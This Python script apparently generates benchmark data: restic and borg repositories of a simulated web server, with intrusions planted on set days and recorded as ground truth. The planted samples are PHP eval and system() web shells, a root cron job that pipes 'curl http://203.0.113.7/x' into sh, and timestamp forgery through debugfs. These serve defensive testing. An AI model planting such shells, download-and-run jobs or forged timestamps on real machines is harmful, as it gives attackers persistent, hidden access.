"""Two repositories of which the truth is known: restic and borg, some days of one machine.

    python bench/history_material.py ROOT FOLDER [--days 30] [--changes 500]

`ROOT` is copied into a file system image below `FOLDER`; every day some files change, and each
day ends with one restic snapshot and one borg archive. What the days planted stands in
`FOLDER/truth.json`: a path, what was done to it, and the number of the first snapshot (from 0)
that holds it as it is at the end. The ctime of all that changed is set in the unmounted image,
as a clock on that day would have: no program can do that on a mounted one.

It needs root, a loop device, mkfs.ext4, debugfs, restic and borg. Password of both: `material`.
"""

from __future__ import annotations

import argparse
import json
import os
import random
import subprocess
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import asdict, dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Final

_PASSWORD: Final = "material"
_FIRST_DAY: Final = datetime(2026, 10, 1, 3, 0, tzinfo=UTC)
_INSTALLED: Final = _FIRST_DAY - timedelta(days=90)
_DATA: Final = 5000  # files that change in turn
_SHELL: Final = b"<?php if (isset($_POST['k'])) { eval(base64_decode($_POST['k'])); } ?>\n"
_JOB: Final = b"* * * * * root curl -fsS http://203.0.113.7/x | sh\n"


@dataclass(frozen=True, slots=True)
class Planted:
    """One path that an intruder touched; `first` is the number of the snapshot that shows it."""

    path: str
    what: str
    first: int
    before: str


class Machine:
    """A root in an image, with a clock."""

    def __init__(self, root: Path, folder: Path) -> None:
        self.folder = folder
        self.image = folder / "machine.img"
        self.mount = folder / "machine"
        self.mount.mkdir(parents=True)
        size = int(run("du", "-sxm", root).split()[0])
        run("mkfs.ext4", "-q", "-d", root, self.image, f"{size * 3 // 2 + 200}M")
        self.touched: set[int] = set()
        with self.mounted("rw"):
            self.files = self._data()
            every = {path.lstat().st_ino for path in self.mount.rglob("*")}
        self._set_ctime(every | {2}, _INSTALLED)

    def _data(self) -> list[Path]:
        """Files of the people who use the machine; no package knows them, and nothing runs them.

        Were the files of packages changed, each of them would be a finding of its own.
        """
        found = []
        for number in range(_DATA):
            path = self.mount / f"srv/data/{number % 50:02}/{number:05}.txt"
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(f"record {number}\n" * (1 + number % 200))
            found.append(path)
        return found

    @contextmanager
    def mounted(self, mode: str) -> Iterator[None]:
        """The image mounted, `ro` or `rw`."""
        run("mount", "-o", f"loop,noatime,{mode}", self.image, self.mount)
        try:
            yield
        finally:
            run("umount", self.mount)

    def stamp(self, path: Path, moment: datetime, *, old_mtime: bool = False) -> None:
        """Note that a path and its folder changed; `old_mtime` leaves the time of its content."""
        seconds = int(moment.timestamp())
        if not old_mtime and path.exists():
            os.utime(path, (seconds, seconds))
        for one in (path, path.parent):
            if one.exists():
                self.touched.add(one.lstat().st_ino)

    def settle(self, moment: datetime) -> None:
        """Give all that was touched the ctime of that moment."""
        self._set_ctime(self.touched, moment)
        self.touched = set()

    def _set_ctime(self, inodes: set[int], moment: datetime) -> None:
        script = self.folder / "ctime"
        text = moment.strftime("%Y%m%d%H%M%S")
        lines = [f"set_inode_field <{inode}> ctime {text}\n" for inode in sorted(inodes)]
        lines += [f"set_inode_field <{inode}> ctime_extra 0\n" for inode in sorted(inodes)]
        script.write_text("".join(lines))
        run("debugfs", "-w", "-f", script, self.image)
        script.unlink()


def plant(machine: Machine, day: int, moment: datetime) -> Iterator[Planted]:
    """What the intruder does on a day; the truth of the measure."""
    at = machine.mount

    def write(name: str, content: bytes) -> Path:
        path = at / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content)
        return path

    match day:
        case 0:
            machine.stamp(write("var/www/html/db.php", b"<?php phpinfo(); ?>\n"), moment)
            machine.stamp(write("var/www/html/upload.txt", _SHELL), moment)
            machine.stamp(write("var/www/html/again.php", _SHELL), moment)
            machine.stamp(write("etc/cron.d/site", b"# jobs of the site\n"), moment)
            machine.stamp(write("var/www/html/index.php", b"<?php echo 'hello'; ?>\n"), moment)
        case 11:
            machine.stamp(write("var/www/html/x.php", _SHELL), moment)
            yield Planted("var/www/html/x.php", "added", day, "absent")
        case 14:
            with (at / "etc/cron.d/site").open("ab") as jobs:
                jobs.write(_JOB)
            machine.stamp(at / "etc/cron.d/site", moment)
            yield Planted("etc/cron.d/site", "changed", day, "other content")
        case 17:
            path = at / "var/www/html/index.php"
            was = path.stat()
            path.write_bytes((b"<?php system($_GET[1]);?>" + b"\n" * 64)[: was.st_size])
            os.utime(path, ns=(was.st_atime_ns, was.st_mtime_ns))
            machine.stamp(path, moment, old_mtime=True)
            yield Planted("var/www/html/index.php", "replaced with old mtime", day, "other content")
        case 8:
            (at / "var/www/html/again.php").unlink()
            machine.stamp(at / "var/www/html/again.php", moment)
        case 20:
            machine.stamp(write("var/www/html/again.php", _SHELL), moment)
            yield Planted("var/www/html/again.php", "deleted and recreated", day, "absent")
        case 23:
            (at / "var/www/html/upload.txt").rename(at / "var/www/html/upload.php")
            machine.stamp(at / "var/www/html/upload.php", moment, old_mtime=True)
            yield Planted("var/www/html/upload.php", "renamed", day, "absent")


def work(machine: Machine, day: int, changes: int, moment: datetime) -> None:
    """The honest changes of a day: most files change, some come, some go."""
    chance = random.Random(day)
    logs = machine.mount / "var/lib/daily"
    logs.mkdir(exist_ok=True)
    for number, path in enumerate(chance.sample(machine.files, changes * 8 // 10)):
        with path.open("ab") as file:
            file.write(f"# day {day}, change {number}\n".encode())
        machine.stamp(path, moment)
    for number in range(changes // 10):
        new = logs / f"{day:02}-{number:03}"
        new.write_text(f"{day} {number}\n" * 20)
        machine.stamp(new, moment)
        old = logs / f"{day - 1:02}-{number:03}"
        if old.exists():
            old.unlink()


def keep(folder: Path, day: int, moment: datetime) -> None:
    """One snapshot in each repository, as root of the machine would make it."""
    text = moment.strftime("%Y-%m-%d %H:%M:%S")
    restic("backup", "-q", "--host", "web", "--time", text, folder / "machine", folder=folder)
    name = f"{folder / 'borg'}::web-{moment:%Y-%m-%d}"
    stamp = moment.strftime("%Y-%m-%dT%H:%M:%S")
    borg("create", "--timestamp", stamp, name, ".", folder=folder, cwd=folder / "machine")
    print(f"day {day}", flush=True)


def restic(*arguments: str | Path, folder: Path) -> None:
    """Run restic on the material's repository."""
    run("restic", "-r", folder / "restic", "--cache-dir", folder / "cache", *arguments)


def borg(*arguments: str | Path, folder: Path, cwd: Path) -> None:
    """Run borg with a folder of its own for what it notes."""
    run("borg", *arguments, cwd=cwd, BORG_BASE_DIR=str(folder / "borg-base"))


def run(*arguments: str | Path, cwd: Path | None = None, **environment: str) -> str:
    """Run a program to its end; what it printed."""
    passwords = {"RESTIC_PASSWORD": _PASSWORD, "BORG_PASSPHRASE": _PASSWORD, "TZ": "UTC"}
    return subprocess.run(
        [str(argument) for argument in arguments],
        check=True,
        capture_output=True,
        text=True,
        cwd=cwd,
        env={**os.environ, **passwords, **environment},
    ).stdout


def main() -> None:
    """Make both repositories."""
    parser = argparse.ArgumentParser(description=__doc__.partition("\n")[0])
    parser.add_argument("root", type=Path)
    parser.add_argument("folder", type=Path)
    parser.add_argument("--days", type=int, default=30)
    parser.add_argument("--changes", type=int, default=500)
    given = parser.parse_args()
    folder = given.folder.resolve()
    machine = Machine(given.root, folder)
    restic("init", "-q", folder=folder)
    borg("init", "-e", "repokey", folder / "borg", folder=folder, cwd=folder)
    truth: list[Planted] = []
    for day in range(given.days):
        moment = _FIRST_DAY + timedelta(days=day)
        at_work = moment - timedelta(hours=6)
        with machine.mounted("rw"):
            work(machine, day, given.changes, at_work)
            truth += plant(machine, day, at_work)
        machine.settle(at_work)
        with machine.mounted("ro"):
            keep(folder, day, moment)
    rows = json.dumps([asdict(planted) for planted in truth], indent=1)
    (folder / "truth.json").write_text(rows + "\n")


if __name__ == "__main__":
    main()
